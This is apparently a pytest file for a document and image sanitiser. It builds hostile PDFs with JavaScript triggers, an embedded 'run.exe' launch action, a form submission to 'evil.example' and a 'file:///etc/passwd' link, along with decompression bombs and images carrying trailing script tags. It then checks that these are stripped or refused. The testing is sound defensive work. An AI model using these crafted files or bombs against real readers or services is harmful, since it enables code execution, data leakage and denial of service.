from __future__ import annotations

import io
import re
import time
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms

from umemployed.files import cleaning
from umemployed.files.cleaning import clean
from umemployed.files.formats import DOCX, JPEG, PDF, PNG, Mismatch
from umemployed.files.tests import samples
from umemployed.files.tests.samples import chunk, pdf_bytes

GPS, ORIENTATION, CANARY = 0x8825, 0x0112, "Canary of Cotonou"
LIVE = re.compile(
    rb"JavaScript|/JS\b|OpenAction|/AA\b|Launch|Embedded|Filespec|SubmitForm|GoToR|RichMedia|/XFA|Metadata"
)


def live_pdf() -> bytes:
    """A page that runs, opens, carries, plays, submits and tells, hidden in object streams."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    program = pdf.make_stream(b"MZ program", Type=Name.EmbeddedFile)
    file = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=program)))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.AF = Array([file])
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=[String("x"), script]), EmbeddedFiles=Dictionary(Names=[String("e"), file])
    )
    page.obj.AA = Dictionary(O=script)
    page.obj.Annots = Array([pdf.make_indirect(link(action)) for action in live_actions(file, script)])
    page.obj.Annots.append(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=file))
    page.obj.Annots.append(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9]))
    page.obj.Photo = pdf.make_stream(photo(), Type=Name.XObject, Subtype=Name.Image, Filter=Name.DCTDecode)
    pdf.docinfo["/Author"] = CANARY
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [CANARY]
    target = io.BytesIO()
    pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return target.getvalue()


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)


def live_actions(file: pikepdf.Object, script: pikepdf.Object) -> list[Dictionary]:
    return [
        Dictionary(S=Name.Launch, F=file),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.GoToR, F=file),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.URI, URI=String("https://portfolio.example/"), Next=script),
    ]


def photo(**options: object) -> bytes:
    """A JPEG as a telephone makes it: where, when, with what, and lying on its side."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[0x010F] = 6, CANARY
    exif.get_ifd(GPS).update({1: "N", 2: (6.0, 22.0, 0.0)})
    target = io.BytesIO()
    picture = Image.linear_gradient("L").convert("RGB").resize((64, 48))
    picture.save(target, "JPEG", exif=exif, comment=CANARY.encode(), xmp=b"<x>%s</x>" % CANARY.encode(), **options)
    return target.getvalue() + b"<script>after the end</script>\xff\xd9"


def plain_text_of(pdf: bytes) -> bytes:
    """Everything in the document, unpacked."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.save(
            target,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return target.getvalue()


def test_a_pdf_comes_out_without_what_acts_hides_or_tells() -> None:
    before, after = (plain_text_of(data) for data in (live_pdf(), clean(PDF.content_type, live_pdf())))
    assert len(set(LIVE.findall(before))) >= 10
    assert LIVE.findall(after) == []
    assert CANARY.encode() in before
    for gone in (CANARY.encode(), b"evil.example", b"run.exe", b"MZ program", b"javascript:", b"/etc/passwd"):
        assert gone not in after
    assert b"https://portfolio.example/" in after


def test_a_clean_pdf_stays_as_it_is() -> None:
    once = clean(PDF.content_type, live_pdf())
    assert clean(PDF.content_type, once) == once
    assert clean(PDF.content_type, samples.PDF) == samples.PDF


def locked_pdf(password: str) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(live_pdf())) as pdf:
        pdf.save(target, encryption=pikepdf.Encryption(user=password, owner="owner"))
    return target.getvalue()


def test_a_pdf_that_anybody_can_open_is_unlocked_and_any_other_refused() -> None:
    assert LIVE.findall(plain_text_of(clean(PDF.content_type, locked_pdf("")))) == []
    with pytest.raises(Mismatch, match="encrypted"):
        clean(PDF.content_type, locked_pdf("secret"))


def packed_pdf(data: bytes, layers: int = 1, copies: int = 1, **entries: object) -> bytes:
    pdf = pikepdf.new()
    for _ in range(layers):
        data = zlib.compress(data, 9)
    for _ in range(copies):
        stream = pikepdf.Stream(pdf, data, Filter=Array([Name.FlateDecode] * layers), **entries)
        pdf.add_blank_page(page_size=(200, 200)).obj.Contents = stream
    return pdf_bytes(pdf)


BOMBS = {
    "one stream": lambda: packed_pdf(b"\0" * 200_000_000),
    "many streams": lambda: packed_pdf(b"\0" * 30_000_000, copies=20),
    "nested streams": lambda: packed_pdf(b"\0" * 200_000_000, layers=2),
    "a nest of nine": lambda: packed_pdf(b"\0" * 1000, layers=9),
    "a hundred megapixels": lambda: packed_pdf(b"", Subtype=Name.Image, Width=10_000, Height=10_000),
    "deep nesting": lambda: samples.PDF.replace(b"/Resources << >>", b"/Resources " + b"[" * 4_000_000),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_pdf_that_would_exhaust_its_reader_is_refused_in_five_seconds(bomb: str) -> None:
    data = BOMBS[bomb]()
    started = time.monotonic()
    with pytest.raises(Mismatch, match=r"too_complex|content_mismatch"):
        clean(PDF.content_type, data)
    assert time.monotonic() - started < 6


def test_no_broken_pdf_gets_through_or_breaks_the_cleaner(caplog: pytest.LogCaptureFixture) -> None:
    data = live_pdf()
    for cut in range(20, len(data) - 40, len(data) // 9):
        broken = data[:cut] + data[cut + 30 :]
        try:
            assert LIVE.findall(plain_text_of(clean(PDF.content_type, broken))) == []
        except Mismatch as refused:
            assert refused.code in {"content_mismatch", "too_complex"}
    assert caplog.records == []


def test_a_cleaner_that_dies_lets_nothing_through(monkeypatch: pytest.MonkeyPatch, tmp_path: object) -> None:
    monkeypatch.setattr(cleaning, "PDF_CLEANER", "/nowhere/pdf_cleaner.py")
    with pytest.raises(Mismatch):
        clean(PDF.content_type, samples.PDF)


@pytest.mark.parametrize("options", [{}, {"progressive": True}, {"restart_marker_blocks": 2}])
def test_a_photograph_keeps_every_pixel_its_colours_and_which_way_is_up(options: dict[str, object]) -> None:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = photo(icc_profile=profile, **options)
    kept = clean(JPEG.content_type, data)
    before, after = (Image.open(io.BytesIO(picture)) for picture in (data, kept))
    assert before.getexif().get_ifd(GPS)
    assert dict(after.getexif()) == {ORIENTATION: 6}
    assert not after.getexif().get_ifd(GPS)
    assert after.tobytes() == before.tobytes()
    assert after.info["icc_profile"] == profile
    assert CANARY.encode() in data
    assert CANARY.encode() not in kept
    assert b"<script>" not in kept
    assert clean(JPEG.content_type, kept) == kept


def test_a_png_keeps_every_pixel_and_loses_what_is_written_beside_them() -> None:
    target = io.BytesIO()
    exif = Image.Exif()
    exif.get_ifd(GPS).update({1: "N"})
    picture = Image.linear_gradient("L").convert("RGBA")
    picture.save(target, "PNG", exif=exif, dpi=(300, 300))
    note = chunk(b"tEXt", b"Author\0" + CANARY.encode())
    data = target.getvalue()[:-12] + note + target.getvalue()[-12:] + b"after the end" + target.getvalue()[-12:]
    kept = clean(PNG.content_type, data)
    after = Image.open(io.BytesIO(kept))
    assert after.tobytes() == picture.tobytes()
    assert dict(after.getexif()) == {}
    assert "dpi" in after.info
    assert CANARY.encode() not in kept
    assert kept.endswith(target.getvalue()[-12:])
    assert b"after the end" not in kept


def test_pixels_beyond_what_a_png_declares_are_a_bomb() -> None:
    more = chunk(b"IDAT", zlib.compress(b"\0" * 50_000_000))
    bomb = samples.PNG[:33] + more + samples.PNG[-12:]
    with pytest.raises(Mismatch, match="too_complex"):
        clean(PNG.content_type, bomb)


@pytest.mark.parametrize("kind", [JPEG, PNG])
def test_no_broken_picture_breaks_its_cleaner(kind: object) -> None:
    whole = {JPEG: photo()[:-32], PNG: samples.PNG}[kind]
    for cut in range(2, len(whole) - 2, 1 + len(whole) // 200):
        with pytest.raises(Mismatch):
            clean(kind.content_type, whole[:cut])


def test_other_formats_are_kept_as_they_came() -> None:
    assert clean(DOCX.content_type, samples.DOCX) == samples.DOCX
